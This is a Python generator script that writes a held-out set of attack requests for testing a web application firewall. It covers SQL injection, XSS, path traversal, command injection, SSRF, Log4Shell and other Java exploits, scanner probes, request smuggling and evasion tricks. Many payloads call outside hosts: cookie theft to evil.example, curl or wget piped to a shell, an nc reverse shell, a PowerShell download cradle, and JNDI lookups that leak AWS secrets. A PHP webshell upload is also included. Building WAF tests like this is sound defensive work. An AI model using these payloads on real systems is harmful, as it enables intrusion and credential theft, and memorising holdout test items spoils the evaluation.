#!/usr/bin/python3
"""gen_attacks.py - writes tests/waf/holdout12/attacks/<family>.jsonl.

Hand-written attacks in 9 families, placed where attackers put them: query
strings, form and JSON fields, headers, cookies, uploads and raw framing,
inside otherwise ordinary requests of the kinds of site in the benign set.
Ids are h12-<family>-NNN in the order written here.
"""

import json
import os
from collections import OrderedDict

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "attacks")
CATS = OrderedDict()
H = "shop.example.com"


def E(cat, note, **kw):
    lst = CATS.setdefault(cat, [])
    e = OrderedDict()
    e["id"] = "h12-%s-%03d" % (cat, len(lst) + 1)
    e["category"] = cat
    e["expect"] = "block"
    for k in ("method", "target", "profile", "headers", "json", "form", "multipart", "body", "raw"):
        if k in kw:
            e[k] = kw.pop(k)
    assert not kw, kw
    e["note"] = note
    lst.append(e)


SHOPC = "sessionid=q8f7w6e5r4t3y2u1i0o9p8a7s6d5f4g3; csrftoken=Zx8Yw7Vu6Ts5"

# ---------------------------------------------------------------- sqli
C = "sqli"
E(C, "union select in a product filter query param",
  target="/collections/knitwear?sort_by=price-ascending&filter.p.vendor=Acme%27)%20UNION%20SELECT%20email,password_hash,3,4%20FROM%20customers--%20-", profile="chrome")
E(C, "boolean blind in CRM search autocomplete", target="/crm/api/search?q=x%27%20AND%20(SELECT%20COUNT(*)%20FROM%20pg_user)%3E0%20AND%20%27a%27%3D%27a&types=contact", profile="xhr")
E(C, "time-based in JSON field of a booking API", method="POST", target="/api/bookings", profile="xhr",
  json={"event_type": "30min-intro", "start": "2026-12-09T15:00:00Z", "tz": "Europe/Lisbon'||(SELECT pg_sleep(10))||'", "name": "A", "email": "a@example.com"})
E(C, "stacked query in LMS quiz form field", method="POST", target="/mod/quiz/processattempt.php?cmid=90412", profile="form",
  form=[["attempt", "55123; UPDATE mdl_quiz_grades SET grade=10 WHERE userid=4410--"], ["thispage", "2"], ["sesskey", "Hq3Zt9Lp0x"]])
E(C, "error-based extractvalue in order id path-ish param", target="/api/orders?id=1043%20AND%20extractvalue(1,concat(0x7e,(SELECT%20user()),0x7e))", profile="xhr")
E(C, "injection in a tracking cookie", target="/p/merino-crew-neck-jumper-navy", profile="chrome",
  headers=[["Cookie", "sessionid=q8f7w6e5r4t3y2u1i0o9p8a7s6d5f4g3; ab_bucket=3' OR '1'='1' -- "]])
E(C, "order by injection in leaderboard sort", target="/api/leaderboards/weekly?mode=ranked&sort=score,(SELECT%20CASE%20WHEN%20(SUBSTRING(password,1,1)=%27a%27)%20THEN%201%20ELSE%201/0%20END%20FROM%20admins)", profile="mobile_app")
E(C, "MSSQL stacked exec in a job search location", target="/jobs?q=nurse&l=London%27;EXEC%20master..xp_cmdshell%20%27ping%20attacker.example%27;--", profile="firefox")
E(C, "login bypass in OAuth IdP login form", method="POST", target="/login?client_id=spa-dashboard", profile="form",
  form=[["username", "admin'/*"], ["password", "*/OR/**/1=1#"], ["csrf", "Qw3Er4"]])
E(C, "union on sqlite_master in a JSON search filter field", method="POST", target="/api/hotels/search", profile="xhr",
  json={"city": "Paris", "filters": {"amenities": "wifi') UNION SELECT name,sql,1,1 FROM sqlite_master--"}})
E(C, "header-borne injection in X-Forwarded-For logged to DB", target="/portal/appointments", profile="safari",
  headers=[["X-Forwarded-For", "1.2.3.4' AND SLEEP(7) AND '1'='1"]])

# ---------------------------------------------------------------- xss
C = "xss"
E(C, "reflected script in search query", target="/search?q=%3Cscript%3Efetch(%27https://evil.example/c?%27%2Bdocument.cookie)%3C/script%3E&expanded=true", profile="chrome")
E(C, "img onerror in product review body", method="POST", target="/products/merino-crew-neck-jumper-navy/reviews", profile="form",
  headers=[["Cookie", SHOPC]],
  form=[["rating", "5"], ["title", "great"], ["body", "Love it <img src=x onerror=\"this.src='https://evil.example/?c='+document.cookie\">"], ["author", "Sam"]])
E(C, "svg onload in player bio (JSON)", method="PATCH", target="/api/players/pl_88123", profile="xhr",
  json={"display_name": "n0rth", "bio": "<svg/onload=alert(document.domain)>"})
E(C, "javascript: URL in webhook endpoint config", method="POST", target="/api/orgs/acme/webhooks", profile="xhr",
  json={"url": "javascript:alert(document.cookie)//https://hooks.acme.example", "events": ["deploy.failed"]})
E(C, "OAuth redirect_uri with javascript scheme", target="/oauth2/authorize?response_type=code&client_id=spa-dashboard&redirect_uri=javascript%3Aeval(atob(%27YWxlcnQoMSk%3D%27))&state=x", profile="chrome")
E(C, "iframe srcdoc in forum post raw", method="POST", target="/posts.json", profile="xhr",
  json={"topic_id": 30218, "raw": "nice tip! <iframe srcdoc=\"<script>parent.location='https://evil.example/'+parent.document.cookie</script>\"></iframe>"})
E(C, "event handler in an uploaded SVG avatar", method="POST", target="/uploads.json?client_id=c9a8b7&type=avatar", profile="xhr",
  multipart={"boundary": "----WebKitFormBoundarySvgAv4t4r", "parts": [
      {"name": "type", "data": "avatar"},
      {"name": "file", "filename": "me.svg", "content_type": "image/svg+xml",
       "data": "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><circle r=\"30\" cx=\"32\" cy=\"32\"/><script>alert(document.cookie)</script></svg>"}]})
E(C, "attribute breakout in a translation string", method="PUT", target="/api/projects/webapp/strings/checkout.terms/translations/fr", profile="xhr",
  json={"text": "\"><details open ontoggle=alert(1)>", "status": "translated"})
E(C, "Referer header reflected on an error page", target="/not-found-page", profile="chrome",
  headers=[["Referer", "https://www.google.com/\"><script>alert(1)</script>"]])
E(C, "DOM sink via hash-like query param in click redirect", target="/clk?c=77120&r=%22%3E%3Cbody%20onpageshow%3Dalert(1)%3E", profile="chrome")

# ---------------------------------------------------------------- lfi
C = "lfi"
E(C, "path traversal in doc export template param", target="/api/docs/d_7712/export?format=pdf&template=../../../../etc/passwd", profile="chrome")
E(C, "encoded traversal in subtitle path", target="/vod/ep-2291/subs/..%2f..%2f..%2f..%2fetc%2fshadow", profile="chrome_mobile")
E(C, "traversal in Jupyter contents path", method="GET", target="/api/contents/analysis/..%2F..%2F..%2Froot%2F.ssh%2Fid_rsa?type=file&format=text", profile="xhr")
E(C, "windows traversal in a file download param", target="/portal/documents/download?file=..\\..\\..\\windows\\win.ini", profile="safari")
E(C, "php wrapper in a CMS theme include", target="/index.php?page=php://filter/convert.base64-encode/resource=wp-config.php", profile="firefox")
E(C, "traversal in uploaded file name (multipart)", method="POST", target="/portal/documents/upload", profile="form_multipart",
  multipart={"boundary": "----WebKitFormBoundaryTr4v3rs4l", "parts": [
      {"name": "category", "data": "referral"},
      {"name": "file", "filename": "../../../../var/www/html/shell.php", "content_type": "application/pdf", "data": "%PDF-1.4 harmless"}]})
E(C, "proc self environ via locale param", target="/api/app-config?platform=ios&lang=../../../../proc/self/environ", profile="mobile_app")
E(C, "double-encoded traversal in static path", target="/static/%252e%252e/%252e%252e/%252e%252e/etc/passwd", profile="chrome")

# ---------------------------------------------------------------- rce
C = "rce"
E(C, "backtick command substitution in a CI pipeline ref filter", target="/api/v4/projects/118/pipelines?ref=main%60id%60&status=failed", profile="api")
E(C, "shell chaining in a maps geocode query (server shells out)", target="/geocoding/v5/search?q=London;cat%20/etc/passwd&limit=5", profile="xhr")
E(C, "pipe to bash in device OTA model param", target="/ota/check?model=TH200|wget%20-qO-%20http://198.51.100.7/x.sh|sh&hw=rev-c&current=2.3.7", profile="none",
  headers=[["User-Agent", "ESP32HTTPUpdate"]])
E(C, "$() in a JSON field for an image conversion service", method="POST", target="/api/docs/d_7712/export", profile="xhr",
  json={"format": "pdf", "pageSize": "A4$(curl -s http://198.51.100.7/p | sh)"})
E(C, "PHP webshell upload disguised as jpeg", method="POST", target="/wp-admin/async-upload.php", profile="form_multipart",
  multipart={"boundary": "----WebKitFormBoundaryPhpSh3ll", "parts": [
      {"name": "action", "data": "upload-attachment"},
      {"name": "async-upload", "filename": "kinder.php.jpg", "content_type": "image/jpeg",
       "data": "\u00ff\u00d8\u00ff\u00e0<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>"}]})
E(C, "python code injection in notebook-like eval param", method="POST", target="/_stcore/rerun", profile="xhr",
  json={"widget_states": [{"id": "region", "string_value": "__import__('os').system('id > /tmp/p')"}]})
E(C, "Shellshock in User-Agent to a CGI path", target="/cgi-bin/status.cgi", profile="none",
  headers=[["User-Agent", "() { :; }; /bin/bash -c 'nc 198.51.100.7 4444 -e /bin/sh'"]])
E(C, "SSTI Jinja2 in newsletter subject", method="PUT", target="/api/campaigns/cmp_1207/content", profile="xhr",
  json={"subject": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}", "html": "<p>hi</p>"})
E(C, "Windows powershell in a form field", method="POST", target="/employer/jobs", profile="form",
  form=[["title", "Driver"], ["location", "x & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\""]])
E(C, "newline-separated command in a CSV-ingest site param", target="/v1/ingest/csv?site=greenhouse-2%0a/bin/cat%20/etc/passwd", profile="none",
  headers=[["User-Agent", "python-requests/2.31.0"]])

# ---------------------------------------------------------------- ssrf
C = "ssrf"
E(C, "cloud metadata via webhook URL", method="POST", target="/api/orgs/acme/webhooks", profile="xhr",
  json={"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["deploy.succeeded"]})
E(C, "GCP metadata via doc image import URL", method="POST", target="/api/docs/d_7712/images/import", profile="xhr",
  json={"src": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"})
E(C, "gopher to redis via avatar fetch URL", target="/api/avatar/fetch?url=gopher://127.0.0.1:6379/_SET%20x%20pwn%0d%0aCONFIG%20SET%20dir%20/var/www%0d%0a", profile="xhr")
E(C, "file scheme in a map style URL", target="/api/maps/style?url=file:///etc/passwd", profile="xhr")
E(C, "decimal IP loopback in OIDC discovery fetch", method="POST", target="/admin/idp/discover", profile="xhr",
  json={"issuer": "http://2130706433:8500/v1/agent/self"})
E(C, "IPv6-mapped metadata in the iCal subscription URL", method="POST", target="/api/calendars/subscribe", profile="xhr",
  json={"ical_url": "http://[::ffff:169.254.169.254]/latest/user-data", "name": "Team holidays"})
E(C, "dict:// internal port probe in link preview", target="/api/preview?url=dict://127.0.0.1:11211/stats", profile="xhr")
E(C, "Azure IMDS URL (percent-encoded) in a link preview fetch", target="/api/preview?url=http%3A%2F%2F169.254.169.254%2Fmetadata%2Finstance%3Fapi-version%3D2021-02-01", profile="xhr")

# ---------------------------------------------------------------- java
C = "java"
E(C, "Log4Shell in User-Agent of a mobile sync call", target="/api/app-config?platform=android&version=5.12.0", profile="mobile_app",
  headers=[["User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"]])
E(C, "Log4Shell nested lookups in a JSON chat message", method="POST", target="/api/chat/channels/guild-4410/messages", profile="mobile_app",
  json={"text": "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}mi://198.51.100.7/x}", "client_msg_id": "cm_1"})
E(C, "Log4Shell in X-Api-Version header", target="/v1/devices/th-00a3f2/config", profile="none",
  headers=[["X-Api-Version", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example}"]])
E(C, "Log4Shell with env-default obfuscation in a cookie", target="/app/projects/42/overview", profile="chrome",
  headers=[["Cookie", "app_session=abc; theme=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/z}"]])
E(C, "OGNL expression in Struts-style action param", target="/struts2-showcase/index.action?redirect:%24%7B%23a%3D(new%20java.lang.ProcessBuilder(new%20java.lang.String%5B%5D%7B%27id%27%7D)).start()%7D", profile="chrome")
E(C, "OGNL in Content-Type (S2-045 shape)", method="POST", target="/upload.action", profile="chrome",
  headers=[["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"]],
  body="x")
E(C, "SpEL in a Spring Cloud Function routing header", method="POST", target="/functionRouter", profile="api",
  headers=[["spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]], body="hello")
E(C, "Spring4Shell class.module classLoader form params", method="POST", target="/employer/jobs", profile="form",
  form=[["class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"],
        ["class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"],
        ["class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"]])
E(C, "Java deserialisation gadget (base64 rO0) in a cookie", target="/crm/deals", profile="edge",
  headers=[["Cookie", "crm_sid=Hh7Jj8Kk9; rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7"]])

# ---------------------------------------------------------------- scanner
C = "scanner"
E(C, "sqlmap user agent on a product page", target="/p/merino-crew-neck-jumper-navy?variant=44129301", profile="none",
  headers=[["User-Agent", "sqlmap/1.7.11#stable (https://sqlmap.org)"], ["Accept", "*/*"]])
E(C, "Nikto probe for a backup file", target="/backup.sql.gz", profile="none",
  headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000512)"]])
E(C, "Nuclei fetching .git config", target="/.git/config", profile="none",
  headers=[["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"], ["Accept", "*/*"]])
E(C, "dotenv file grab", target="/.env", profile="none", headers=[["User-Agent", "python-requests/2.31.0"]])
E(C, "WordPress user enumeration by wpscan", target="/wp-json/wp/v2/users?per_page=100", profile="none",
  headers=[["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]])
E(C, "masscan/zgrab style banner probe", target="/", profile="none", headers=[["User-Agent", "Mozilla/5.0 zgrab/0.x"]])
E(C, "dirbuster-style admin panel probe", target="/phpmyadmin/index.php", profile="none",
  headers=[["User-Agent", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"]])
E(C, "Acunetix-tagged request", target="/search?q=acunetix_wvs_security_test", profile="chrome",
  headers=[["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"], ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"]])
E(C, "AWS credentials file probe", target="/.aws/credentials", profile="none", headers=[["User-Agent", "Go-http-client/1.1"]])

# ---------------------------------------------------------------- protocol
C = "protocol"
E(C, "CL.TE smuggling (both Content-Length and chunked)",
  raw="POST /api/scores HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG" % H)
E(C, "TE.CL with obfuscated Transfer-Encoding",
  raw="POST /cart/add.js HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding : chunked\r\n\r\n5c\r\nGPOST /admin HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n" % H)
E(C, "two Content-Length headers that disagree",
  raw="POST /api/feedback HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}" % H)
E(C, "bare LF line endings and a header with no colon",
  raw="GET /app/projects/42/overview HTTP/1.1\nHost: %s\nX-Broken-Header\nConnection: close\n\n" % H)
E(C, "obs-fold continuation hiding a second header",
  raw="GET /latest.json HTTP/1.1\r\nHost: %s\r\nX-Note: hello\r\n Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" % H)
E(C, "absurd HTTP version",
  raw="GET /jobs HTTP/7.3\r\nHost: %s\r\nConnection: close\r\n\r\n" % H)
E(C, "NUL byte in the request target",
  raw="GET /vod/ep-2291/master.m3u8\x00.jpg HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % H)
E(C, "percent-encoded CRLF + Set-Cookie in a redirect param (response splitting)",
  raw="GET /clk?r=%%0d%%0aSet-Cookie:%%20session=attacker HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % H)
E(C, "missing Host header on HTTP/1.1",
  raw="GET /api/v4/projects/118/pipelines HTTP/1.1\r\nUser-Agent: curl/8.4.0\r\nConnection: close\r\n\r\n")
E(C, "invalid chunk size (non-hex) in chunked body",
  raw="POST /v1/devices/th-00a3f2/telemetry HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{\"ts\":1}\r\n0\r\n\r\n" % H)
E(C, "unknown method PWN on an API path",
  raw="PWN /api/orgs/acme HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % H)

# ---------------------------------------------------------------- evasion
C = "evasion"
E(C, "HTTP parameter pollution splitting a union across repeated params",
  target="/search?q=1%27%20UNION%2F*&q=*%2FSELECT%20password%2F*&q=*%2FFROM%20users--", profile="chrome")
E(C, "overlong UTF-8 slash traversal", target="/static/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", profile="chrome")
E(C, "IIS %u encoding of script tag", target="/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e", profile="chrome")
E(C, "SQL keywords split by inline comments and case", target="/api/orders?id=1/*!50000UnIoN*//*!50000SeLeCt*/1,group_concat(table_name),3/**/fRoM/**/information_schema.tables", profile="xhr")
E(C, "JSON unicode escapes hiding a script tag", method="POST", target="/api/videos/ep-2291/comments", profile="xhr",
  headers=[["Content-Type", "application/json"]],
  body='{"text":"\\u003cscript\\u003edocument.location=\'https://evil.example/?\'+document.cookie\\u003c/script\\u003e","parent":null}')
E(C, "multipart with the payload in a part whose Content-Disposition uses odd quoting", method="POST", target="/api/listings", profile="form_multipart",
  headers=[["Content-Type", "multipart/form-data; boundary=----WebKitFormBoundaryQu0t3s"]],
  body="------WebKitFormBoundaryQu0t3s\r\nContent-Disposition: form-data; name=title; name=\"description\"\r\n\r\nbike' UNION SELECT username,password FROM users--\r\n------WebKitFormBoundaryQu0t3s--\r\n")
E(C, "charset trick: UTF-7 encoded script declared in Content-Type", method="POST", target="/api/feedback", profile="xhr",
  headers=[["Content-Type", "text/plain; charset=utf-7"]], body="+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
E(C, "base64-wrapped command in a JSON field decoded by the app", method="POST", target="/api/inspections/insp_4410/answers", profile="mobile_app",
  json={"answers": [{"q": "note", "value": "x; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"}]})
E(C, "whitespace and tab variants in an XSS handler", target="/search?q=%3Cimg%09src%3Dx%0Aonerror%0D%3Dalert%601%60%3E", profile="chrome")
E(C, "mixed-case and null-byte truncation in an include param", target="/index.php?PaGe=..%2F..%2F..%2Fetc%2Fpasswd%00.html", profile="firefox")
E(C, "form body sent with JSON content type mismatch carrying sqli", method="POST", target="/cart", profile="form",
  headers=[["Content-Type", "application/json"]], body="updates[]=1&note=x'+or+sleep(5)#")
E(C, "double URL-encoded script in a path segment", target="/p/%253Cscript%253Ealert(1)%253C%252Fscript%253E", profile="chrome")


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f.endswith(".jsonl"):
            os.remove(os.path.join(OUT, f))
    total = 0
    for cat, lst in CATS.items():
        with open(os.path.join(OUT, cat + ".jsonl"), "w", encoding="utf-8") as f:
            for e in lst:
                f.write(json.dumps(e, ensure_ascii=False) + "\n")
        total += len(lst)
        print("%-10s %3d" % (cat, len(lst)))
    print("attacks total %d in %d families" % (total, len(CATS)))


if __name__ == "__main__":
    main()
